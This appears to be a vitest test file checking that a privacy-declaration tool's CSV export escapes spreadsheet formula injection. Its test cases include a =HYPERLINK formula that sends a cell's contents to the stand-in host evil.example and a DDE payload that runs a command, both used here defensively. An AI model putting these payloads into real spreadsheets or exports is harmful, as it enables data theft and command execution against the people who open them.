import { describe, expect, it } from 'vitest';
import { toCsv, type Declaration } from '@declaration';
import { ENGLISH } from '@declaration/i18n/index.ts';
import { renderExport } from '../../../../static/disclosure/src/components/Downloads.tsx';
import { loadDeclaration } from '../load.ts';
import { parseCsv } from './readers.ts';

const techtime = loadDeclaration('examples/techtime-user-management.yaml');

function firstRow(csv: string): Record<string, string> {
  const [header, row] = parseCsv(csv);
  return Object.fromEntries(header!.map((name, i) => [name, row![i]!]));
}

describe('CSV cells that a spreadsheet would run as a formula (OWASP "CSV Injection")', () => {
  it.each([
    ['=HYPERLINK', '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")'],
    ['@SUM', "@SUM(1+1)*cmd|' /C calc'!A0"],
    ['a tab before =', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
    ['+', '+1+1'],
    ['-', '-1+1'],
    ['a space before =', ' =1+1'],
    ['a full-width ＝', '＝1+1'],
  ])(
    '%s: shown as text, prefixed with a single quote, in the export and the download',
    (_, text) => {
      const declaration: Declaration = structuredClone(techtime);
      declaration.dataCategories[0]!.description = text;
      declaration.dataCategories[0]!.name = text;
      for (const csv of [toCsv(declaration), renderExport('csv', declaration, ENGLISH)]) {
        const row = firstRow(csv);
        expect(row.Category).toBe(`'${text}`);
        expect(row.Description).toBe(`'${text}`);
        expect(csv).toContain(`"'${text.replace(/"/g, '""')}"`);
        // The other cells, which start no formula, are left as they are.
        expect(row.Personal).toBe('Yes');
        expect(row['Data subjects']).toBe('End users; Administrators');
      }
    },
  );
});
